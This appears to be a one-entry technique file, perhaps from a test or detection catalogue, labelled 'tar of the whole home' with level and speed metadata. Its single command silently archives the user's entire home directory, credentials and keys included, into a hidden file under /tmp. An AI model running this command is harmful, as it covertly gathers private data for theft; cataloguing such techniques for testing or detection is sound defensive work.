# SPDX-License-Identifier: MIT
# technique: tar of the whole home
# level: high
# quick: no
t0
tar czf /tmp/.h.tgz -C ~ . 2>/dev/null
